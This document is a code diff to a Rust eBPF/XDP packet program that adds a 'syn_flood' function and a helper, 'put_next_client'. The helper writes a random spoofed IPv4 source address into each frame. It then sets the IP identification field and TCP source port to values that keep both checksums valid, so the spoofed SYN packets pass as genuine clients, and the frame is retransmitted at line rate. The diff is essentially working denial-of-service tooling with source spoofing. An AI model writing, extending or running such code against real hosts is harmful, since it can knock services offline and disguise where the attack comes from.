@@ -123,6 +123,16 @@ pub fn flood(context: XdpContext) -> u32 {
     }
 }
 
+/// Sends a SYN out with the next source. Its identification and its port make up for the address in both checksums, so
+/// that those of the frame stay right, and a listener takes it for what it is.
+#[xdp(frags)]
+pub fn syn_flood(context: XdpContext) -> u32 {
+    match put_next_client(&context) {
+        Some(()) => XDP_TX,
+        None => XDP_ABORTED,
+    }
+}
+
 /// Puts the next source into the hash map.
 #[xdp(frags)]
 pub fn fill_hash(_context: XdpContext) -> u32 {
@@ -182,6 +192,23 @@ fn put_next_source(context: &XdpContext) -> Option<()> {
         Source::Ipv4(address) => write(context, 26, address),
         Source::Ipv6([upper, _]) => write(context, 22, upper),
     }
+}
+
+/// Puts a source there that a listener takes for an honest one.
+#[inline(always)]
+fn put_next_client(context: &XdpContext) -> Option<()> {
+    let Source::Ipv4(address) = next()? else {
+        return None;
+    };
+    // From anywhere but the loopback and multicast.
+    let address = 0x0b00_0000 + u32::from_be(address) % 0x7400_0000;
+    let sum = (address >> 16) + (address & 0xffff);
+    let sum = (sum & 0xffff) + (sum >> 16);
+    // RFC 1071: a number and its complement add up to nothing.
+    let complement = !(sum as u16);
+    write(context, 26, address.to_be())?;
+    write(context, 18, complement.to_be())?;
+    write(context, 34, complement.to_be())
 }
 
 /// The next source of the sequence.
